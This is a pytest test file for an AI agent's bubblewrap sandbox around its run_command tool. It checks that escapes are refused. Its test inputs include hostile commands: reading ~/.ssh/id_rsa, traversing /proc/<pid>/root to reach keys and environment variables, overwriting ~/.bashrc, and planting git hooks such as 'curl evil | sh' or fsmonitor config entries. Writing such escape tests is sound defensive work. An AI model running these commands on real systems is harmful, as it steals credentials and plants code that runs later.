"""run_command's sandbox (tools/sandbox.py): escapes refused (writes outside the workspace, the
network, the home folder), read-only mode, allow_read, the journal, and bwrap missing."""

from __future__ import annotations

import contextlib
import logging
import os
import shutil
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest
from hybrid_agent.tools import SandboxPolicy, ToolRegistry
from hybrid_agent.tools import sandbox as sandbox_module
from hybrid_agent.tools.sandbox import BWRAP_MISSING, SANDBOX_FAILED, sandboxed_argv

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")


def shell(sandbox, **policy) -> ToolRegistry:
    return ToolRegistry(sandbox.ws, load_plugins=False, enable_commands=True, sandbox=SandboxPolicy(**policy))


# This interpreter may live in the hidden home (pyenv): allow_read is how a toolchain is reached.
python = [os.path.realpath(sys.base_prefix)]


def python_c(code: str) -> str:
    # The base interpreter (under `python`), not a virtual environment's link to it: a venv may sit in
    # /tmp, which is private inside the sandbox. -I: the standard library only.
    return f'{os.path.realpath(sys.executable)} -I -c "{code}"'


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    """A fake home folder with a private key, set as $HOME for the command."""
    h = tmp_path / "home"
    (h / ".ssh").mkdir(parents=True)
    (h / ".ssh" / "id_rsa").write_text("PRIVATE-KEY-BYTES\n")
    (h / "notes").mkdir()
    (h / "notes" / "todo.txt").write_text("readable note\n")
    monkeypatch.setenv("HOME", str(h))
    return h


@needs_bwrap
def test_writes_outside_the_workspace_are_refused(sandbox, home):
    before = sandbox.state()
    elsewhere = Path(tempfile.mkdtemp(dir="/var/tmp" if os.access("/var/tmp", os.W_OK) else None))
    try:
        for target in (sandbox.outside / "new.txt", sandbox.outside / "secret.txt", elsewhere / "x"):
            res = shell(sandbox).call("run_command", {"command": f"echo pwned > {target}"})
            assert res.is_error and res.data["exit_code"] != 0, res.text
        assert not list(elsewhere.iterdir())
        # The home folder is an empty tmpfs: a write there "works" and is gone with the command.
        res = shell(sandbox).call("run_command", {"command": "echo pwned > ~/.bashrc; ls -A ~"})
        assert not res.is_error and res.text.splitlines()[1] == ".bashrc"
        assert not (home / ".bashrc").exists()
    finally:
        shutil.rmtree(elsewhere)
    assert sandbox.state() == before  # the fake home included


@needs_bwrap
def test_private_keys_in_home_cannot_be_read(sandbox, home):
    for cmd in ("cat ~/.ssh/id_rsa", f"cat {home}/.ssh/id_rsa"):
        res = shell(sandbox).call("run_command", {"command": cmd})
        assert res.is_error and "PRIVATE-KEY" not in res.text, res.text
    res = shell(sandbox).call("run_command", {"command": "ls -A ~"})
    assert res.text == "$ ls -A ~\n[exit code 0]"  # an empty home
    # ... unless the folder is listed in allow_read, which makes it readable, never writable.
    reg = shell(sandbox, allow_read=["~/notes"])
    res = reg.call("run_command", {"command": "cat ~/notes/todo.txt"})
    assert not res.is_error and "readable note" in res.text
    res = reg.call("run_command", {"command": "echo x >> ~/notes/todo.txt"})
    assert res.is_error and (home / "notes" / "todo.txt").read_text() == "readable note\n"
    res = reg.call("run_command", {"command": "cat ~/.ssh/id_rsa"})
    assert res.is_error and "PRIVATE-KEY" not in res.text


@needs_bwrap
def test_other_processes_are_out_of_sight(sandbox, home):
    """With the host's pids, /proc/<pid>/root of the agent itself would lead to the whole filesystem."""
    me = os.getpid()
    cmd = (
        f"cat /proc/{me}/root{home}/.ssh/id_rsa; cat /proc/{me}/environ; "
        f"for p in /proc/[0-9]*; do cat $p/root{home}/.ssh/id_rsa; "
        f"echo x > $p/root{sandbox.outside}/x; done; "
        "ls -d /proc/[0-9]* | wc -l"
    )
    before = sandbox.state()
    res = shell(sandbox).call("run_command", {"command": cmd})
    assert "PRIVATE-KEY" not in res.text and "PATH=" not in res.text, res.text
    assert int(res.text.splitlines()[-2]) < 10  # the sandbox's own few processes
    assert sandbox.state() == before


@needs_bwrap
def test_a_daemon_that_redirects_its_output_lives_on(sandbox):
    t0 = time.monotonic()
    res = shell(sandbox).call(
        "run_command", {"command": "(sleep 0.5; echo late > late.txt) > /dev/null 2>&1 & echo started"}
    )
    assert time.monotonic() - t0 < 0.5 and not res.data["background_stopped"], res.text
    deadline = time.monotonic() + 5
    while not (sandbox.ws / "late.txt").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert (sandbox.ws / "late.txt").read_text() == "late\n"


@pytest.fixture
def listener():
    """A TCP server on the host's loopback, accepting connections until the test ends."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    stop = threading.Event()

    def serve() -> None:
        srv.settimeout(0.1)
        while not stop.is_set():
            with contextlib.suppress(OSError):  # the accept timeout: look at `stop` again
                srv.accept()[0].close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield srv.getsockname()[1]
    stop.set()
    t.join()
    srv.close()


@needs_bwrap
def test_no_network_unless_allowed(sandbox, listener):
    connect = python_c(
        f"import socket; socket.create_connection(('127.0.0.1', {listener}), timeout=3); print('connected')"
    )
    res = shell(sandbox, allow_read=python).call("run_command", {"command": connect})
    # A private network namespace: its own loopback, where nothing listens.
    assert res.is_error and "ConnectionRefusedError" in res.text, res.text
    res = shell(sandbox, allow_read=python, network=True).call("run_command", {"command": connect})
    assert not res.is_error and "connected" in res.text, res.text


@needs_bwrap
def test_read_only_mode_refuses_workspace_writes(sandbox):
    before = sandbox.state()
    reg = shell(sandbox, mode="read-only")
    res = reg.call("run_command", {"command": "cat hello.txt && echo x > new.txt"})
    assert res.is_error and "hello" in res.text and "Read-only file system" in res.text
    res = reg.call("run_command", {"command": "rm hello.txt"})
    assert res.is_error and sandbox.state() == before and not reg.journal.entries()


@needs_bwrap
def test_changes_inside_the_workspace_are_journaled(sandbox):
    reg = shell(sandbox)
    cmd = "echo made > made.txt && echo tmp > /tmp/t && cat /tmp/t"  # /tmp: private, not journaled
    res = reg.call("run_command", {"command": cmd}, turn=3)
    assert not res.is_error and "tmp" in res.text and res.data["changed"] == ["made.txt"], res.text
    [entry] = reg.journal.entries()
    assert (entry.path, entry.before, entry.after, entry.turn) == ("made.txt", None, b"made\n", 3)
    reg.undo_last()
    assert not (sandbox.ws / "made.txt").exists()


@needs_bwrap
def test_the_agent_settings_folder_stays_read_only(sandbox):
    (sandbox.ws / ".hybrid-agent").mkdir()
    (sandbox.ws / ".hybrid-agent" / "settings.toml").write_text('sandbox = "workspace-write"\n')
    res = shell(sandbox).call(
        "run_command", {"command": "echo 'sandbox = \"off\"' > .hybrid-agent/settings.toml"}
    )
    assert res.is_error and "Read-only file system" in res.text
    assert "workspace-write" in (sandbox.ws / ".hybrid-agent" / "settings.toml").read_text()


@needs_bwrap
@pytest.mark.skipif(not os.access("/var/tmp", os.W_OK), reason="needs a writable /var/tmp")
def test_service_sockets_are_covered(sandbox, monkeypatch):
    """A Unix socket outside /tmp and home (where the Docker daemon's lives) cannot be connected to."""
    where = Path(tempfile.mkdtemp(dir="/var/tmp"))
    srv = socket.socket(socket.AF_UNIX)
    try:
        srv.bind(str(where / "docker.sock"))
        srv.listen(1)
        connect = python_c(f"import socket; socket.socket(socket.AF_UNIX).connect('{where}/docker.sock')")
        res = shell(sandbox, allow_read=python).call("run_command", {"command": connect})
        assert not res.is_error, res.text  # reachable: a read-only mount does not stop connect()
        monkeypatch.setattr(sandbox_module, "SERVICE_SOCKETS", (str(where / "docker.sock"),))
        res = shell(sandbox, allow_read=python).call("run_command", {"command": connect})
        assert res.is_error and "ConnectionRefusedError" in res.text, res.text
    finally:
        srv.close()
        shutil.rmtree(where)


def test_a_sandbox_that_cannot_start_is_named(sandbox, tmp_path):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create a new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    res = shell(sandbox, bwrap=str(fake)).call("run_command", {"command": "true"})
    assert res.is_error and res.text.endswith(f"[exit code 1]\n[{SANDBOX_FAILED}]"), res.text


def test_bwrap_missing_refuses_in_one_line_and_off_still_runs(sandbox, tmp_path, monkeypatch, caplog):
    before = sandbox.state()
    missing = str(tmp_path / "no-bwrap-here")
    with caplog.at_level(logging.WARNING, logger="hybrid_agent.tools.sandbox"):
        reg = shell(sandbox, bwrap=missing)
        for _ in range(2):
            res = reg.call("run_command", {"command": "echo x > made.txt"})
            assert res.is_error and res.text == BWRAP_MISSING and "\n" not in res.text
    assert [r.getMessage() for r in caplog.records] == [BWRAP_MISSING]  # said once
    assert sandbox.state() == before
    # The default policy looks bwrap up on PATH.
    monkeypatch.setenv("PATH", str(tmp_path))
    res = shell(sandbox).call("run_command", {"command": "echo x > made.txt"})
    assert res.text == BWRAP_MISSING and sandbox.state() == before
    # Mode off needs no bwrap, and is really unconfined.
    monkeypatch.setenv("PATH", os.defpath)
    res = shell(sandbox, mode="off", bwrap=missing).call(
        "run_command", {"command": f"echo x > made.txt && echo y > {sandbox.outside}/out.txt"}
    )
    assert not res.is_error and res.data["changed"] == ["made.txt"], res.text
    assert (sandbox.outside / "out.txt").read_text() == "y\n"


def test_preview_says_how_the_command_is_confined(sandbox):
    args = {"command": "ls"}
    assert shell(sandbox).preview("run_command", args).summary == f"run `ls` in {sandbox.ws.resolve()}"
    assert shell(sandbox, mode="off").preview("run_command", args).summary.endswith("(not sandboxed)")
    summary = shell(sandbox, mode="read-only", network=True).preview("run_command", args).summary
    assert summary.endswith("(read-only sandbox) (network allowed)")


def test_policy_values_and_argv(tmp_path):
    with pytest.raises(ValueError, match="workspace-write, read-only, off"):
        SandboxPolicy(mode="strict")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="list of paths"):
        SandboxPolicy(allow_read="~/.cargo")  # type: ignore[arg-type]
    assert sandboxed_argv(["true"], SandboxPolicy(mode="off"), tmp_path, {}) == ["true"]
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\n")
    fake.chmod(0o755)
    argv = sandboxed_argv(["true"], SandboxPolicy(bwrap=str(fake)), tmp_path, {"HOME": str(tmp_path)})
    assert argv[0] == str(fake) and argv[-2:] == ["--", "true"]
    assert "--unshare-net" in argv and "--unshare-pid" in argv
    # Either would take the command's processes out of reach of run_command's process-group handling.
    assert "--new-session" not in argv and "--die-with-parent" not in argv
    assert argv.index("--tmpfs", argv.index("/tmp")) < argv.index("--bind")  # home hidden, then ws
    policy = SandboxPolicy(bwrap=str(fake), network=True, mode="read-only")
    argv = sandboxed_argv(["true"], policy, tmp_path, {})
    assert "--unshare-net" not in argv and "--bind" not in argv


@needs_bwrap
def test_git_hooks_and_config_stay_read_only(sandbox):
    """git runs what .git/hooks and .git/config name outside the sandbox, the next time the user
    commits: a confined command may change the rest of the workspace (and of .git), not those."""
    git = sandbox.ws / ".git"
    (git / "config").write_text("[core]\n\thooksPath = tools/hooks\n")
    (git / "modules" / "lib").mkdir(parents=True)  # a submodule's repository folder
    for name, text in (("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\n")):
        (git / "modules" / "lib" / name).write_text(text)
    reg = shell(sandbox)
    attempts = {
        "echo 'curl evil | sh' > .git/hooks/pre-commit": git / "hooks" / "pre-commit",
        "echo '[core] fsmonitor = evil' >> .git/config": None,
        "mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit": sandbox.ws / "tools/hooks/pre-commit",
        "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit": git.parent
        / ".git-old",
        "rm -rf .git/hooks": None,
        "echo evil > .git/modules/lib/hooks/post-checkout": git / "modules/lib/hooks/post-checkout",
        "echo '[core] fsmonitor = evil' >> .git/modules/lib/config": None,
    }
    for command, made in attempts.items():
        res = reg.call("run_command", {"command": command})
        assert res.is_error and res.data["exit_code"] != 0, res.text
        assert made is None or not made.exists(), command
    assert (git / "config").read_text() == "[core]\n\thooksPath = tools/hooks\n"
    assert (git / "modules" / "lib" / "config").read_text() == "[core]\n"
    assert (git / "hooks").is_dir() and not list((git / "hooks").iterdir())
    # The hooks folders existed before (or were made empty for the mount): nothing else changed.
    assert (sandbox.ws / "tools" / "hooks").is_dir() and not list((sandbox.ws / "tools" / "hooks").iterdir())
    # Everything else stays writable: the workspace, and the rest of .git (git's own objects and refs).
    res = reg.call(
        "run_command", {"command": "echo ok > notes.txt && echo ref > .git/HEAD2 && cat notes.txt"}
    )
    assert not res.is_error, res.text
    assert (sandbox.ws / "notes.txt").read_text() == "ok\n" and (git / "HEAD2").read_text() == "ref\n"
    # Read-only mode and mode off are as before (read-only protects everything; off nothing).
    res = shell(sandbox, mode="off").call("run_command", {"command": "echo x > .git/hooks/post-commit"})
    assert not res.is_error and (git / "hooks" / "post-commit").read_text() == "x\n"


@needs_bwrap
@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_git_still_commits_in_the_sandbox(tmp_path):
    """A real repository (with a linked worktree inside the workspace, whose .git is a file): commits
    work in the sandbox, hooks cannot be planted in the common folder through the worktree."""
    import subprocess

    ws = tmp_path / "repo"
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "init", "-q", str(ws)], check=True, env=env)
    (ws / "a.txt").write_text("a\n")
    reg = ToolRegistry(ws, load_plugins=False, enable_commands=True)
    ident = "git -c user.name=t -c user.email=t@t"
    res = reg.call(
        "run_command", {"command": f"git add a.txt && {ident} commit -qm one && git log --oneline"}
    )
    assert not res.is_error and "one" in res.text, res.text
    subprocess.run(["git", "-C", str(ws), "worktree", "add", "-q", "wt"], check=True, env=env)
    assert (ws / "wt" / ".git").is_file()
    wt = ToolRegistry(ws / "wt", load_plugins=False, enable_commands=True)
    # From the worktree's workspace the common folder is outside it: read-only like the rest.
    res = wt.call("run_command", {"command": f"echo evil > {ws}/.git/hooks/pre-commit"})
    assert res.is_error and not (ws / ".git" / "hooks" / "pre-commit").exists()
    # A .git file naming a folder inside the workspace (git init --separate-git-dir): that folder's
    # hooks and config are the ones kept read-only.
    sep = tmp_path / "sep"
    subprocess.run(
        ["git", "init", "-q", "--separate-git-dir", str(sep / "repo-data"), str(sep)], check=True, env=env
    )
    assert (sep / ".git").is_file()
    res = ToolRegistry(sep, load_plugins=False, enable_commands=True).call(
        "run_command",
        {"command": "echo evil > repo-data/hooks/pre-commit || echo refused-$((1 + 1)); echo ok > x"},
    )
    assert "refused-2" in res.text and (sep / "x").exists(), res.text
    assert not (sep / "repo-data" / "hooks" / "pre-commit").exists()
